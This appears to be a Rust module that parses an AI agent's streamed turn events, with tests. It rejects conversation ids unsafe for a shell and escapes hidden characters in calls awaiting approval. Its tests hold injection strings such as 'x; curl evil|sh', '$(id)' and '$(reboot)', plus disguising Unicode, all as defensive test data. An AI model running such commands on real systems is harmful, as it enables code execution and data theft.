//! Parses the events of a turn: text, calls of tools, and the end of the turn.
//!
//! Events without a name hold `{"token"}`; `tool_call` and `tool_result` enclose each call of a tool; `approval` names the calls that
//! wait for the user, and their task; the last one is `done` or `error`, and a stream that ends without one of them was cut off.

use ::a2a::RequestedCall;
use crds::hidden_text::escape_hidden;
use serde_json::Value;
use sse_stream::Sse;

/// Chunk of a reply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum ReplyChunk {
    /// Text for the user.
    Text(String),
    /// A call of a tool, with these arguments.
    Call { name: String, arguments: String },
    /// The result of a tool, or its failure.
    Outcome { ok: bool, took_ms: u64 },
    /// The end of the turn; an agent names the conversation, and a turn that others than the first model answered those.
    Done { conversation: Option<String>, answered_by: Option<String> },
    /// Calls of this task wait for the user.
    Waiting { task: String, calls: Vec<RequestedCall> },
    /// The turn failed.
    Failed(String),
    /// An event that is not for people, or of a newer runtime.
    Other,
}

/// Returns a conversation's id if it can be typed: it is printed in a command to be copied, and the agent chose it.
pub(super) fn typable(id: &str) -> Option<String> {
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b':' | b'-');
    ((1..=128).contains(&id.len()) && id.bytes().all(fits)).then(|| id.to_owned())
}

/// Parses an event.
pub(super) fn read(event: &Sse) -> ReplyChunk {
    let data = event.data.as_deref().unwrap_or_default();
    let data: Value = serde_json::from_str(data).unwrap_or_default();
    let text = |field: &str| data[field].as_str().unwrap_or_default().to_owned();
    match event.event.as_deref() {
        None | Some("message") => ReplyChunk::Text(text("token")),
        Some("tool_call") => ReplyChunk::Call { name: text("name"), arguments: data["arguments"].to_string() },
        Some("tool_result") => {
            ReplyChunk::Outcome { ok: data["ok"] == true, took_ms: data["tookMs"].as_u64().unwrap_or_default() }
        }
        Some("done") => ReplyChunk::Done {
            conversation: data["conversation_id"].as_str().and_then(typable),
            answered_by: answered_by(&data),
        },
        Some("approval") => typable(&text("task"))
            .map_or(ReplyChunk::Other, |task| ReplyChunk::Waiting { task, calls: waiting_calls(&data) }),
        Some("error") => ReplyChunk::Failed(text("error")),
        Some(_) => ReplyChunk::Other,
    }
}

/// Returns the calls that wait.
fn waiting_calls(answer: &Value) -> Vec<RequestedCall> {
    let call =
        |call: &Value| Some(RequestedCall { name: call["name"].as_str()?.to_owned(), args: call["args"].to_string() });
    answer["approval"]["tools"].as_array().into_iter().flatten().filter_map(call).collect()
}

/// Describes a call that a person is asked to approve.
pub(super) fn waiting_line(RequestedCall { name, args }: &RequestedCall) -> String {
    format!("waiting for approval: {} {}", visible(name), visible(args))
}

/// Returns a text on one line in which nothing is hidden: what a person approves must be what is sent.
pub(super) fn visible(text: &str) -> String {
    escape_hidden(text).replace('\n', "\\u{a}").replace('\t', "\\u{9}")
}

/// Returns the models that answered, each once, if one of them was not the first model.
fn answered_by(done: &Value) -> Option<String> {
    let mut models: Vec<&str> = Vec::new();
    for model in done["models"].as_array()?.iter().filter_map(Value::as_str) {
        if !models.contains(&model) {
            models.push(model);
        }
    }
    (done["fallback"] == true && !models.is_empty()).then(|| models.join(", "))
}

/// Returns the text of a response that is not a stream, and its conversation: the text of an agent or a flow, or the
/// body as it is.
pub(super) fn full_text(body: &str) -> (String, Option<String>) {
    let Ok(Value::Object(answer)) = serde_json::from_str(body) else { return (body.to_owned(), None) };
    let text = ["reply", "text"].iter().find_map(|field| answer.get(*field)?.as_str());
    let conversation = answer.get("conversation_id").and_then(Value::as_str).and_then(typable);
    (text.map_or_else(|| body.to_owned(), str::to_owned), conversation)
}

/// Returns the text of a refusal: `{"error"}` of gateway and runtime, `{"error": {"message"}}` as OpenAI has it, or the
/// first line of another body.
pub(super) fn refusal(body: &str) -> String {
    let answer: Value = serde_json::from_str(body).unwrap_or_default();
    let fields = ["/error/message", "/error", "/detail", "/message"];
    match fields.iter().find_map(|field| answer.pointer(field)?.as_str()) {
        Some(text) => text.to_owned(),
        None => body.lines().next().unwrap_or_default().chars().take(300).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(name: Option<&str>, data: &str) -> Sse {
        Sse { event: name.map(str::to_owned), data: Some(data.to_owned()), id: None, retry: None }
    }

    #[test]
    fn each_event_of_a_turn_is_understood() {
        let done = |conversation: Option<&str>| ReplyChunk::Done {
            conversation: conversation.map(str::to_owned),
            answered_by: None,
        };
        for (name, data, expected) in [
            (None, r#"{"token": "Hel"}"#, ReplyChunk::Text("Hel".into())),
            (
                Some("tool_call"),
                r#"{"id": "1", "name": "weather", "arguments": {"city": "Paris"}}"#,
                ReplyChunk::Call { name: "weather".into(), arguments: r#"{"city":"Paris"}"#.into() },
            ),
            (
                Some("tool_result"),
                r#"{"id": "1", "ok": true, "tookMs": 7}"#,
                ReplyChunk::Outcome { ok: true, took_ms: 7 },
            ),
            (Some("done"), r#"{"conversation_id": "c", "title": "t"}"#, done(Some("c"))),
            (Some("done"), "{}", done(None)),
            (
                Some("approval"),
                r#"{"task": "0a1b", "approval": {"tools": [{"id": "1", "name": "pay", "args": {"euros": 5}}, {}]}}"#,
                ReplyChunk::Waiting {
                    task: "0a1b".into(),
                    calls: vec![RequestedCall { name: "pay".into(), args: r#"{"euros":5}"#.into() }],
                },
            ),
            (
                Some("approval"),
                r#"{"task": "0a1b", "approval": {}}"#,
                ReplyChunk::Waiting { task: "0a1b".into(), calls: Vec::new() },
            ),
            (Some("approval"), r#"{"task": "$(reboot)"}"#, ReplyChunk::Other),
            (Some("error"), r#"{"error": "no model"}"#, ReplyChunk::Failed("no model".into())),
            (Some("usage"), "{}", ReplyChunk::Other),
            (None, "not json", ReplyChunk::Text(String::new())),
        ] {
            assert_eq!(read(&event(name, data)), expected, "{name:?} {data}");
        }
    }

    #[test]
    fn an_id_that_would_be_more_than_one_word_to_a_shell_is_none() {
        let id = |id: &str| full_text(&serde_json::json!({ "reply": "x", "conversation_id": id }).to_string()).1;
        for good in ["6b1f", "a.B_c:d-9", &"x".repeat(128)] {
            assert_eq!(id(good).as_deref(), Some(good));
        }
        for bad in ["", "x; curl evil|sh", "a\nb", "a b", "$(id)", "é", &"x".repeat(129)] {
            assert_eq!(id(bad), None, "{bad}");
            let data = serde_json::json!({ "conversation_id": bad }).to_string();
            assert_eq!(
                read(&event(Some("done"), &data)),
                ReplyChunk::Done { conversation: None, answered_by: None },
                "{bad}"
            );
        }
    }

    #[test]
    fn nothing_of_a_call_that_waits_is_hidden() {
        let call = RequestedCall { name: "pa\u{200b}y".into(), args: "{\"to\":\"\u{202e}bob\"}".into() };
        assert_eq!(waiting_line(&call), r#"waiting for approval: pa\u{200b}y {"to":"\u{202e}bob"}"#);
    }

    #[test]
    fn models_are_told_when_one_was_not_the_first() {
        for (data, expected) in [
            (r#"{"models": ["a/b"], "fallback": true}"#, Some("a/b")),
            (r#"{"models": ["a/b", "c/d", "a/b"], "fallback": true}"#, Some("a/b, c/d")),
            (r#"{"models": ["a/b"]}"#, None),
            (r#"{"models": 1, "fallback": true}"#, None),
        ] {
            let answered_by = expected.map(str::to_owned);
            assert_eq!(
                read(&event(Some("done"), data)),
                ReplyChunk::Done { conversation: None, answered_by },
                "{data}"
            );
        }
    }

    #[test]
    fn an_answer_that_is_no_stream_is_shown_too() {
        assert_eq!(full_text(r#"{"reply": "hi", "conversation_id": "c"}"#), ("hi".into(), Some("c".into())));
        assert_eq!(full_text("plain"), ("plain".into(), None));
        assert_eq!(full_text(r#"{"price": 3}"#), (r#"{"price": 3}"#.into(), None));
    }

    #[test]
    fn a_refusal_is_shown_in_the_words_of_its_server() {
        assert_eq!(refusal(r#"{"error": "no", "reason": "x"}"#), "no");
        assert_eq!(refusal(r#"{"error": {"message": "bad key"}}"#), "bad key");
        assert_eq!(refusal("<h1>Bad gateway</h1>\nmore"), "<h1>Bad gateway</h1>");
    }
}
